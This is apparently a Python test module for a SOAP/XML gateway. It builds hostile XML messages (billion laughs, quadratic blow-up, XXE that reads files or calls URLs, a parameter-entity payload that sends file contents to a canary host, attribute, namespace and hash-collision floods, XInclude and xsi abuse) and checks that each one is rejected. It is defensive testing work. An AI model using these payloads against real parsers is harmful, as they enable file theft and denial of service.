"""B011 to B040: what an XML parser can be told to do, and what only costs."""

from __future__ import annotations

import codecs

from lxml import etree

from gateway.xml.namespaces import SOAP11, XSI
from tests.attacks.model import Expect, Sent, bad
from tests.attacks.world import SECRET

XML, CLI, INERT = Expect.XML, Expect.CLI, Expect.INERT
ENVELOPE = f'<soap:Envelope xmlns:soap="{SOAP11}"><soap:Header/><soap:Body>'
NAMESPACE = "urn:state-register:documents:v1"
END = "</soap:Body></soap:Envelope>"


def text(inner: str) -> bytes:
    """An unsigned message: what costs must be refused before any signature is looked at."""
    return f"{ENVELOPE}{inner}{END}".encode()


def with_dtd(w, subset: str, use: str = "") -> bytes:
    message = w.plain()
    return f"<!DOCTYPE x [{subset}]>".encode() + (message.replace(SECRET.encode(), use.encode()) if use else message)


@bad("B011", "bare DOCTYPE", "xml", XML, "XML.DTD", "security §4 A")
def doctype(w):
    message = w.plain()
    yield "bare", b"<!DOCTYPE x>" + message
    yield "after the declaration", b'<?xml version="1.0"?>\n<!DOCTYPE x>' + message
    yield "after a comment", b"<!-- a -->\n<!-- b --><!DOCTYPE x>" + message
    yield "public", b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">' + message
    wide = codecs.BOM_UTF16_LE + (b"<!DOCTYPE x>" + message).decode().encode("utf-16-le")
    yield "UTF-16", Sent(wide, media="text/xml")
    yield "small letters", b"<!doctype x>" + message, "XML.SYNTAX|XML.NO_ROOT"
    yield "inside the root", message.replace(b"<soap:Header>", b"<!DOCTYPE x><soap:Header>"), "XML.SYNTAX"
    yield "after the root", message + b"<!DOCTYPE x>", "XML.SYNTAX"


@bad("B012", "internal entity in text", "xml", XML, "XML.DTD", "security §4 A")
def internal_entity(w):
    yield "used", with_dtd(w, '<!ENTITY e "C66602991">', "&e;")
    yield "in an attribute", with_dtd(w, '<!ENTITY e "Body">').replace(b'Id="Body"', b'Id="&e;"')
    yield "undeclared, no DTD", w.plain().replace(SECRET.encode(), b"&evil;"), "XML.SYNTAX"


@bad("B013", "entity in a signed reference", "xml", XML, "XML.DTD", "CVE-2025-23369 (libxml2, GHES)")
def entity_in_reference(w):
    yield "URI", with_dtd(w, '<!ENTITY b "#Body">').replace(b'URI="#Body"', b'URI="&b;"')
    yield "digest", with_dtd(w, '<!ENTITY d "AAAA">').replace(b"<ds:DigestValue>", b"<ds:DigestValue>&d;")


@bad("B014", "billion laughs", "xml", XML, "XML.DTD", "WS-Attacker", cpu=0.1)
def billion_laughs(w):
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "10^9", with_dtd(w, f'<!ENTITY l0 "ha">{levels}', "&l9;")
    yield "recursive", with_dtd(w, '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")


@bad("B015", "quadratic blow-up", "xml", XML, "XML.DTD", "WS-Attacker", cpu=0.1)
def quadratic(w):
    yield "100 KB a thousand times", with_dtd(w, f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 1000)


@bad("B016", "XXE reads a file", "xml", XML, "XML.DTD", "OWASP XXE")
def xxe_file(w):
    yield "SYSTEM", with_dtd(w, f'<!ENTITY f SYSTEM "{w.canary.file_url}">', "&f;")
    yield "PUBLIC", with_dtd(w, f'<!ENTITY f PUBLIC "x" "{w.canary.file_url}">', "&f;")
    yield "external subset", f'<!DOCTYPE x SYSTEM "{w.canary.file_url}">'.encode() + w.plain()
    yield "unparsed", with_dtd(w, f'<!NOTATION n SYSTEM "x"><!ENTITY f SYSTEM "{w.canary.file_url}" NDATA n>')


@bad("B017", "XXE over HTTP", "xml", XML, "XML.DTD", "OWASP XXE")
def xxe_http(w):
    yield "entity", with_dtd(w, f'<!ENTITY f SYSTEM "{w.canary.url}">', "&f;")
    yield "subset", f'<!DOCTYPE x SYSTEM "{w.canary.url}">'.encode() + w.plain()
    yield "FTP", with_dtd(w, f'<!ENTITY f SYSTEM "{w.canary.url.replace("http", "ftp")}">', "&f;")


@bad("B018", "XXE by a name that must be looked up", "xml", XML, "XML.DTD", "OWASP XXE")
def xxe_name(w):
    yield "entity", with_dtd(w, '<!ENTITY f SYSTEM "http://canary.invalid/x">', "&f;")
    yield "UNC path", with_dtd(w, '<!ENTITY f SYSTEM "file://canary.invalid/share">', "&f;")


@bad("B019", "parameter entity out of band", "xml", XML, "XML.DTD", "SAML Raider")
def parameter_entity(w):
    yield "remote", with_dtd(w, f'<!ENTITY % xxe SYSTEM "{w.canary.url}"> %xxe;')
    exfiltrate = f'<!ENTITY % f SYSTEM "{w.canary.file_url}"><!ENTITY % o SYSTEM "{w.canary.url}?%f;"> %o;'
    yield "file sent away", with_dtd(w, exfiltrate)


@bad("B020", "ATTLIST injection", "xml", XML, "XML.DTD", "security §4 A")
def attlist(w):
    yield "default", with_dtd(w, '<!ATTLIST number Id ID "Body">')
    yield "ID type", with_dtd(w, "<!ATTLIST number x ID #IMPLIED>")
    yield "fixed namespace", with_dtd(w, '<!ATTLIST number xmlns CDATA #FIXED "urn:evil">')


@bad("B021", "coercive parsing", "xml", XML, "", "WS-Attacker", cpu=0.1)
def coercive(w):
    for depth in (70, 300, 5_000, 100_000):
        yield f"{depth} deep", text("<a>" * depth + "</a>" * depth), "XML.LIMIT.DEPTH|XML.SYNTAX|XML.LIMIT.ELEMENTS"
    deep = "<a>" * 62 + "</a>" * 62
    yield "one too deep, signed", w.plain(payload=f'<x xmlns="urn:x">{deep}</x>'), "XML.LIMIT.DEPTH"


@bad("B022", "unclosed tags", "xml", XML, "", "security §4 A", cpu=0.1)
def unclosed(w):
    yield "30,000 open", text("<a>" * 30_000), "XML.SYNTAX|XML.LIMIT.ELEMENTS"
    yield "cut", w.plain()[:-20], "XML.SYNTAX"
    yield "cut in the signature", w.plain()[:1500], "XML.SYNTAX"
    yield "closed in another order", text("<a><b></a></b>"), "XML.SYNTAX"


@bad("B023", "attribute flood", "xml", XML, "", "CVE-2013-2160 (CXF)")
def attributes(w):
    many = " ".join(f'a{n}=""' for n in range(100_000))
    yield "100,000 in one element", text(f"<a {many}/>"), "XML.LIMIT.ATTRIBUTES"
    yield "65, signed", w.plain(payload="<a " + " ".join(f'a{n}=""' for n in range(65)) + "/>"), "XML.LIMIT.ATTRIBUTES"
    yield "the same twice", text('<a b="1" b="2"/>'), "XML.SYNTAX"


@bad("B024", "element flood", "xml", CLI, "XML.LIMIT.ELEMENTS", "WS-Attacker")
def elements(w):
    flood = "<a/>" * 250_000
    yield "250,000 in the Header", f'<s:Envelope xmlns:s="{SOAP11}"><s:Header>{flood}</s:Header></s:Envelope>'.encode()
    sent = Sent(text("<a/>" * 25_000), service="registration", operation="GetCase")
    yield "25,000 in the Body, another service", sent
    yield "comments", Sent(text("<!---->" * 50_000), service="registration", operation="GetCase")


@bad("B025", "overlong names", "xml", XML, "XML.SYNTAX|XML.LIMIT.ATTRIBUTE", "WS-Attacker")
def long_names(w):
    long = "n" * 100_000
    yield "element", text(f"<{long}/>")
    yield "attribute", text(f'<a {long}="1"/>')
    yield "prefix", text(f'<{long}:a xmlns:{long}="urn:x"/>')
    yield "namespace", text(f'<a xmlns="urn:{"n" * 1_500_000}"/>'), "SEC.MISSING", Expect.SEC
    yield "attribute value", text(f'<a b="{"n" * 1_500_000}"/>')


@bad(
    "B026", "hash collisions", "xml", CLI, "XML.LIMIT.ATTRIBUTES|XML.LIMIT.NAMESPACES", "WS-Attacker (DJBX31A/33A/33X)"
)
def collisions(w):
    def words(one: str, other: str, bits: int = 12) -> list[str]:
        return ["".join(one if n >> b & 1 else other for b in range(bits)) for n in range(2**bits)]

    for name, (one, other) in {"31A": ("tt", "uU"), "33A": ("Ez", "FY"), "33X": ("Ez", "FY")}.items():
        found = words(one, other)
        yield f"{name} attributes", text("<a " + " ".join(f'{each}=""' for each in found) + "/>")
        yield f"{name} namespaces", text("<a " + " ".join(f'xmlns:{each}="urn:{each}"' for each in found) + "/>")


@bad("B027", "namespace flood before canonicalisation", "xml", CLI, "XML.LIMIT.NAMESPACES", "[M]: 13.9 s", cpu=0.2)
def namespace_flood(w):
    names = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(3000))
    inclusive = '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>'
    yield (
        "3,000 times 300",
        w.plain(payload=f'<x xmlns="urn:x">{"<y/>" * 300}</x>', c14n=inclusive, envelope_attributes=names),
    )
    yield "65 declarations", w.plain(payload="<a>" + "".join(f'<b xmlns:m{n}="urn:{n}"/>' for n in range(65)) + "</a>")
    yield "default namespace in every element", text("".join(f'<a xmlns="urn:{n}"/>' for n in range(3000)))


@bad("B028", "PrefixList that makes canonicalisation dear", "xml", Expect.SEC, "", "security §1.4 [M]")
def prefix_flood(w):
    from tests.attacks.bending import prefixes, transforms
    from tests.attacks.world import Ref

    exc = "http://www.w3.org/2001/10/xml-exc-c14n#"
    for name, words in {
        "17 words": " ".join("abcdefghijklmnopq"),
        "10 KB": "p " * 5000,
        "one of 2 KB": "p" * 2000,
    }.items():
        yield (
            name,
            w.plain(refs=["TS", Ref("Body", transforms(exc, inner=prefixes(words)))]),
            ("SIG.TRANSFORM.PREFIXES.LIMIT"),
        )
    yield (
        "no word of XML",
        w.plain(refs=["TS", Ref("Body", transforms(exc, inner=prefixes("a! <b".replace("<", ""))))]),
        ("SIG.PREFIXES.WORD"),
    )


@bad("B029", "huge text", "xml", XML, "", "security §4 A")
def huge_text(w):
    # The bulk service takes messages of 10 MB, the others of 5 MB.
    yield "11 MB", Sent(text("x" * 11_000_000)), "", Expect.H413
    yield "1.5 MB in one text", text(f"<a>{'x' * 1_500_000}</a>"), "XML.LIMIT.TEXT"
    yield (
        "1.5 MB of CDATA",
        text(f"<a><![CDATA[{'<' * 700_000}{'x' * 800_000}]]></a>"),
        ("XML.LIMIT.TEXT|XML.LIMIT.ELEMENTS"),
    )
    section = f"<![CDATA[{'y' * 300_000}]]>"
    yield "joined from CDATA sections", text(f"<a>{section * 5}</a>"), "XML.LIMIT.TEXT"


@bad("B030", "trailing content", "xml", XML, "XML.SYNTAX", "security §4 A")
def trailing(w):
    message = w.plain()
    for name, rest in {"bytes": b"x", "second root": b"<x/>", "NUL": b"\x00", "second message": message}.items():
        yield name, message + rest
    yield "before", b"x" + message, "XML.NO_ROOT|XML.SYNTAX"
    yield "NUL before", b"\x00" + message, "XML.ENCODING.NO_BOM|XML.SYNTAX"
    yield "instruction after", message + b"<?x y?>", "XML.PI"


@bad("B031", "bad characters", "xml", XML, "XML.SYNTAX|XML.ENCODING.BYTES", "XML 1.0 §2.2")
def bad_characters(w):
    message = w.plain()
    for name, octets in {
        "NUL": b"\x00", "BEL": b"\x07", "VT": b"\x0b", "overlong": b"\xc0\xbc", "surrogate": b"\xed\xa0\x80",
        "U+FFFE": b"\xef\xbf\xbe", "lone continuation": b"\x80", "beyond Unicode": b"\xf5\x80\x80\x80",
        "NUL by number": b"&#0;", "U+FFFF by number": b"&#xFFFF;", "too large a number": b"&#x110000;",
        "control by number": b"&#8;",
    }.items():  # fmt: skip
        yield name, message.replace(SECRET.encode(), SECRET.encode() + octets)
    odd = codecs.BOM_UTF16_LE + message.decode().encode("utf-16-le") + b"\x00\xd8"
    yield "odd surrogates in UTF-16", Sent(odd, media="text/xml")


@bad("B032", "other encodings", "xml", XML, "", "security §4 A")
def encodings(w):
    message = w.plain().decode()
    for codec in ("utf-32-le", "utf-32-be"):
        yield codec, message.encode(codec), "XML.ENCODING.NO_BOM|XML.ENCODING.UTF32"
    yield "UTF-32 with mark", Sent(message.encode("utf-32"), media="text/xml"), "XML.ENCODING.UTF32"
    for codec in ("utf-16-le", "utf-16-be"):
        yield f"{codec} without mark", message.encode(codec), "XML.ENCODING.NO_BOM"
    yield "EBCDIC", message.encode("cp500"), "XML.NO_ROOT|XML.SYNTAX"
    yield "GB18030 declared", f'<?xml version="1.0" encoding="GB18030"?>{message}'.encode(), "XML.ENCODING.DECLARED"
    yield (
        "ISO-2022-JP declared",
        f'<?xml version="1.0" encoding="ISO-2022-JP"?>{message}'.encode(),
        "XML.ENCODING.DECLARED",
    )


@bad("B033", "byte order mark inside", "xml", XML, "XML.SYNTAX|XML.NO_ROOT", "security §4 A")
def marks(w):
    message = w.plain()
    yield "two marks", codecs.BOM_UTF8 * 2 + message
    yield "mark after the declaration", b'<?xml version="1.0"?>' + codecs.BOM_UTF8 + message
    yield "UTF-8 mark, UTF-16 text", codecs.BOM_UTF8 + message.decode().encode("utf-16-le")


@bad("B034", "namespace ill-formed", "xml", XML, "", "Namespaces in XML 1.0")
def namespaces(w):
    yield "undeclared prefix", text("<p:a/>"), "XML.SYNTAX"
    yield "one attribute by two prefixes", text('<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>'), "XML.SYNTAX"
    yield "xml: bound anew", text('<a xmlns:xml="urn:x"/>'), "XML.SYNTAX"
    yield "xmlns: bound", text('<a xmlns:xmlns="urn:x"/>'), "XML.SYNTAX"
    yield "prefix undeclared", text('<a xmlns:p=""/>'), "XML.SYNTAX"
    yield "two colons", text('<a:b:c xmlns:a="urn:x"/>'), "XML.SYNTAX"
    yield "ampersand in a name", text('<a xmlns="urn:a&amp;b"/>'), "XML.NAMESPACE"


@bad("B035", "processing instruction", "xml", XML, "XML.PI", "security §4 A")
def instructions(w):
    message = w.plain()
    yield "style sheet", f'<?xml-stylesheet href="{w.canary.url}"?>'.encode() + message
    yield "in the Body", message.replace(b"<number", b"<?x y?><number", 1)
    yield "in the Envelope", message.replace(b"<soap:Header>", b"<?x y?><soap:Header>")
    yield "signed", w.plain(before=lambda root: root[1][0].append(etree.PI("x", "y")))
    yield (
        "looks like a declaration",
        message.replace(b"<soap:Header>", b'<?xml version="1.0"?><soap:Header>'),
        ("XML.SYNTAX|XML.PI"),
    )


@bad("B036", "XInclude", "xml", CLI, "CONTRACT.SCHEMA", "security §4 A")
def xinclude(w):
    for name, attributes in {"text": 'parse="text"', "xml": ""}.items():
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{w.canary.file_url}" {attributes}/>'
        yield name, w.plain(payload=w.report().replace(SECRET, include))


@bad("B037", "schemaLocation", "xml", INERT, "", "security §4 A")
def schema_location(w):
    hint = f'xmlns:xsi="{XSI}" xsi:schemaLocation="urn:state-register:documents:v1 {w.canary.url}"'
    yield "to the canary", w.plain(payload=w.report().replace(" xmlns=", f" {hint} xmlns=", 1))
    yield (
        "on the Envelope",
        w.plain(envelope_attributes=f'xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{w.canary.url}"'),
    )
    yield (
        "to a file",
        w.plain(payload=w.report().replace(" xmlns=", f" {hint.replace(w.canary.url, w.canary.fifo)} xmlns=", 1)),
    )
    other = f'xmlns:xsi="{XSI}" xsi:schemaLocation="urn:other {w.canary.fifo} urn:more {w.canary.url}"'
    yield "of a namespace nobody knows", w.plain(payload=w.report().replace("<documents>", f"<documents {other}>", 1))


@bad(
    "B038", "xsi:type to another type", "xml", CLI, "CONTRACT.SCHEMA|SOAP.BODY.TYPE_UNBOUND", "spyne parse_xsi_type [M]"
)
def xsi_type(w):
    def typed(value: str, more: str = "") -> bytes:
        return w.plain(
            payload=w.report().replace("<number>", f'<number xmlns:xsi="{XSI}" {more} xsi:type="{value}">', 1)
        )

    yield "unknown type", typed("t:Evil", 'xmlns:t="urn:evil"')
    yield "unbound prefix", typed("nowhere:Evil")
    yield "anyType", typed("x:anyType", 'xmlns:x="http://www.w3.org/2001/XMLSchema"')
    yield (
        "on the document",
        w.plain(
            payload=w.report().replace("<documents>", f'<documents xmlns:xsi="{XSI}" xsi:type="RequestContext">', 1)
        ),
    )


@bad("B039", "xsi:nil", "xml", CLI, "CONTRACT.SCHEMA", "[M]: ended another server")
def nil(w):
    for name in ("number", "documentType", "documents", "context"):
        attribute = f'<{name} xmlns:xsi="{XSI}" xsi:nil="true"'
        yield name, w.plain(payload=w.report().replace(f"<{name}", attribute, 1))
    yield (
        "the operation",
        w.plain(payload=f'<ReportInvalidDocuments xmlns="{NAMESPACE}" xmlns:xsi="{XSI}" xsi:nil="true"/>'),
    )
    yield (
        "empty and nil",
        w.plain(payload=w.report().replace(f"<number>{SECRET}</number>", f'<number xmlns:xsi="{XSI}" xsi:nil="1"/>')),
    )


@bad("B040", "SOAP array", "xml", CLI, "", "WS-Attacker")
def soap_array(w):
    enc = "http://schemas.xmlsoap.org/soap/encoding/"
    yield (
        "arrayType",
        w.plain(
            payload=w.report().replace("<documents>", f'<documents xmlns:e="{enc}" e:arrayType="x[1000000000]">', 1)
        ),
        "CONTRACT.SCHEMA",
    )
    yield "Array", w.plain(payload=f'<e:Array xmlns:e="{enc}" e:arrayType="x[1000000000]"/>'), "SOAP.ENCODING_STYLE"
